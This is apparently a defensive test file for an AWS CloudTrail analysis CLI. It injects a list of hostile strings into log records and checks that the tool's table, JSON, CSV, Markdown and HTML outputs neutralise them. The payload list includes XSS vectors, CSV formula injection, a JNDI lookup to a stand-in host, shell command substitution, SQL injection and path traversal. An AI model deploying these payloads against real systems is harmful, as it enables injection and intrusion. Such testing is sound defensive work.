"""Hostile texts in every field of failed and sensitive calls, through every output: no control character and no escape sequence,
no HTML that runs or loads, no formula, no link, no second row; and the record counts like any other."""

import csv
import html.parser
import io
import json
import re
import unicodedata
import urllib.parse

import trails

PAYLOADS = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b2J", "\x1bP1$r\x1b\\", "a\rb", "a\nb", "a\r\nSet-Cookie: x", "a\x00b",
    "a\x08\x08b\x7f", "\u202egpj.exe\u202c", "\u2066x\u2069", "\u200b\u200d\ufeff", "\u2028\u2029", "\U000e0041\U000e0042", "Delete\U0001d173Bucket",
    "Delete\U0001bca0Bucket", "Z" + "\u0300" * 50, "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</style></title></pre><img src=x onerror=alert(1)>",
    '"><a href=javascript:alert(1) onclick="alert(1)">x</a>', "' autofocus onfocus='alert(1)", "<!-- --><![CDATA[ ]]><svg onload=alert(1)>", "&lt;b&gt;&#x3c;script&#62;",
    "<cwdb-action endpoint=x>", '{"cluster_id":"forged"}', "=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "| a | b |\n|---|---|", "[x](http://evil.example)",
    "![x](http://evil.example/p.png)", "`code` **bold** <!channel> @all #1", "http://evil.example/ www.evil.example", "${jndi:ldap://evil.example}{{7*7}}%s%n$(id)`id`", "x" * 5000,
    "'; DROP TABLE event; --", "../../../../etc/passwd", "a,b=c\\ d", "\ufdd0\uffff\U0010ffff", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
]  # fmt: skip

COMMANDS = [
    ["scan", "-v", "--limit", "0"], ["scan", "--format", "json"], ["scan", "--format", "jsonl"], ["scan", "--format", "csv"], ["scan", "--format", "markdown", "--limit", "0"],
    ["scan", "--inspect"], ["scan", "--html", "PAGE"], ["scan", "--html", "PAGE", "--language", "zh"], ["explain"], ["explain", "--format", "jsonl"],
    *(["top", "--by", by, "--format", format, "--limit", "0"] for by in ("cluster", "event", "code", "principal", "key", "source-ip", "account", "service", "class", "region") for format in ("table", "json", "csv", "markdown")),
    *(["notify", "--dry-run", "--all", "--limit", "0", "--format", format, "--language", language] for format in ("text", "json") for language in ("en", "zh")),
]  # fmt: skip

STORED = [
    ["clusters", "list"], ["clusters", "list", "-v"], ["clusters", "list", "--format", "json"], ["calls", "list", "-v"], ["calls", "list", "--format", "json"], ["incidents", "list"],
    ["incidents", "list", "--format", "json"], ["clusters", "list", "--format", "csv"], ["calls", "list", "--format", "markdown"],
]  # fmt: skip

# Clusters of each payload that are shown one by one.
SHOWN_EACH = 4


def attack(group):
    for number, payload in enumerate(group.some(PAYLOADS, 2)):
        place = group.place("injected")
        path = place / "in.jsonl"
        records = list(hostile(payload))
        path.write_bytes(trails.lines(records))
        store = place / "s.db"
        commands = group.some([*COMMANDS, *([*each, "--db", store] for each in STORED)], 10)
        ran = group.program.run("scan", "--db", store, "--format", "json", path)
        group.case(f"{payload[:40]!r}: counted", counted(ran, len(records)), path)
        for command in commands:
            page = place / "page.html"
            arguments = [page if each == "PAGE" else each for each in command]
            ran = group.program.run(*arguments, *([] if "--db" in command else [path]))
            problem = ran.problem((0, 1), resident=None) or seen(command, ran, page)
            group.case(f"{payload[:40]!r}: {' '.join(map(str, command[:6]))}", problem, path)
        shown(group, store, payload, path)
        reasons(group, store, payload, path)


def hostile(text):
    """Yields calls with the text in each field that is read."""
    arn = f"arn:aws:sts::{trails.ACCOUNT}:assumed-role/{text}/{text}"
    session = {
        "type": "AssumedRole", "principalId": f"AROAEXAMPLE:{text}", "arn": arn, "accountId": text, "accessKeyId": text, "userName": text, "invokedBy": text,
        "sessionContext": {"sourceIdentity": text, "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{trails.ACCOUNT}:role/{text}", "userName": text}},
    }  # fmt: skip
    user = {"type": "IAMUser", "userName": text, "arn": f"arn:aws:iam::{trails.ACCOUNT}:user/{text}", "accountId": trails.ACCOUNT, "accessKeyId": text}
    fields = [
        {"errorMessage": text},
        {"errorMessage": f"User: {arn} is not authorized to perform: s3:{text} on resource: {text} because {text}"},
        {"errorCode": text, "errorMessage": text},
        {"errorCode": "ValidationException", "errorMessage": text},
        {"eventName": text},
        {"eventSource": f"{text}.amazonaws.com", "eventType": text, "eventCategory": text},
        {"eventTime": text, "awsRegion": text, "vpcEndpointId": text},
        {"userAgent": text, "sourceIPAddress": text},
        {"recipientAccountId": text, "userIdentity": session},
        {"requestParameters": {"bucketName": text, "key": text}, "resources": [{"ARN": f"arn:aws:s3:::{text}", "accountId": text, "type": text}]},
    ]
    for number, each in enumerate(fields):
        yield trails.record(number + 1, **each)
    yield trails.success(20, eventSource="iam.amazonaws.com", eventName="AttachUserPolicy", userIdentity=user, userAgent=text, requestParameters={"userName": text, "policyArn": text})
    yield trails.success(21, eventSource="cloudtrail.amazonaws.com", eventName="StopLogging", userIdentity=session, requestParameters={"name": text})


def counted(ran, records):
    if problem := ran.problem((0, 1)):
        return problem
    totals = json.loads(ran.out)["records"]
    return None if totals["read"] == records == totals["clustered"] else f"{totals['clustered']} of {records} records count"


def seen(command, ran, page):
    """Returns what hostile text does in an output, or None."""
    text = ran.text.replace("\r\n", "\n") if "csv" in command else ran.text
    if bad := [each for each in text + ran.said if is_unseen(each)]:
        return f"prints {sorted(set(map(hex, map(ord, bad))))}"
    if "PAGE" in command:
        return acting(page.read_text(encoding="utf-8"))
    if "csv" in command:
        rows = list(csv.reader(io.StringIO(text, newline="")))
        if rows and len({len(row) for row in rows}) != 1:
            return "rows have different lengths"
        formulas = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "@") or re.match(r"-(?![\d.]+$)", cell)]
        return f"a cell is a formula: {formulas[0][:60]!r}" if formulas else None
    if "json" in command or "jsonl" in command:
        for line in text.splitlines() if "jsonl" in command else [text]:
            try:
                inside = json.loads(line)
            except ValueError as error:
                return f"no JSON: {error}"
            if bad := [each for each in strings(inside) if "eventbridge" not in command and any(is_unseen(letter) for letter in each)]:
                return f"a text in JSON has {bad[0][:60]!r}"
        return None
    if "markdown" in command:
        outside = re.sub(r"(`+).*?\1", "", text)
        if found := re.search(r"(?<!\\)\]\(|(?<![\\&])<[a-z!/]|(?<!\\)@all", outside):
            return f"Markdown acts: {outside[max(0, found.start() - 20) : found.end() + 20]!r}"
    return None


def is_unseen(letter):
    """Whether a letter is a control or a format character. Line breaks are those of the output."""
    if letter in "\n\t":
        return False
    return unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp")


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


class Page(html.parser.HTMLParser):
    """Collects what could run or load on a page."""

    def __init__(self):
        super().__init__()
        self.found = []
        self.scripts = 0

    def handle_starttag(self, tag, attributes):
        if tag == "script":
            self.scripts += 1
        if tag in ("iframe", "object", "embed", "base", "link", "img"):
            self.found.append(tag)
        if tag == "cwdb-action" and dict(attributes).get("action") in ("call", "html"):
            # CloudWatch's element for links of widgets.
            attributes = [each for each in attributes if each[0] != "action"]
        for name, value in attributes:
            if name.startswith("on") or name == "srcdoc":
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "xlink:href") and value and not value.startswith("#"):
                place = urllib.parse.urlsplit(value)
                host = place.hostname or ""
                if place.scheme != "https" or not re.search(r"(^|\.)(aws\.amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com|mitre\.org|docs\.aws\.amazon\.com)$", host):
                    self.found.append(f"{tag} {name}={value[:60]}")


def acting(page, scripts=1):
    """Returns what a page could run or load, or None. A report has one script of its own."""
    parsed = Page()
    parsed.feed(page)
    if parsed.scripts > scripts:
        return f"{parsed.scripts} scripts"
    return f"the page acts: {parsed.found[:3]}" if parsed.found else None


def shown(group, store, payload, path):
    """Each cluster and call by itself, its history, its events and its export."""
    listed = json.loads(group.program.run("scan", "--db", store, "--format", "json", path).out)
    ids = [each["cluster_id"] for each in listed["clusters"]][:SHOWN_EACH]
    for cluster in ids[: group.count(SHOWN_EACH)]:
        for command in (["clusters", "show"], ["clusters", "show", "--kv"], ["export"], ["clusters", "history"]):
            ran = group.program.run(*command, cluster, "--db", store)
            group.case(f"{payload[:40]!r}: {' '.join(command)}", ran.problem() or seen(["json"] if command == ["export"] else command, ran, None), path)
        ran = group.program.run("events", "--db", store, "--cluster", cluster, "--format", "csv")
        group.case(f"{payload[:40]!r}: events", ran.problem() or seen(["csv"], ran, None), path)
    for call in [each["call_id"] for each in listed["sensitive_calls"]]:
        ran = group.program.run("calls", "show", call, "--db", store)
        group.case(f"{payload[:40]!r}: calls show", ran.problem() or seen(["show"], ran, None), path)


def reasons(group, store, payload, path):
    """Reasons of decisions and names of those who decide, as people type them."""
    if "\x00" in payload:
        return
    listed = json.loads(group.program.run("clusters", "list", "--db", store, "--format", "json").out)["clusters"]
    cluster = listed[0]["cluster_id"]
    for command in (["acknowledge"], ["mute", "--for", "7d"], ["expect"], ["resolve"]):
        ran = group.program.run("clusters", *command, cluster, "--db", store, "--reason", payload, environment={"USER": payload[:200], "LOGNAME": payload[:200]})
        problem = ran.problem((0, 1, 2)) or seen(command, ran, None)
        for look in (["clusters", "show", cluster], ["clusters", "history", cluster]):
            ran = group.program.run(*look, "--db", store)
            problem = problem or ran.problem() or seen(look, ran, None)
        group.case(f"{payload[:40]!r}: the reason of {command[0]}", problem, path)
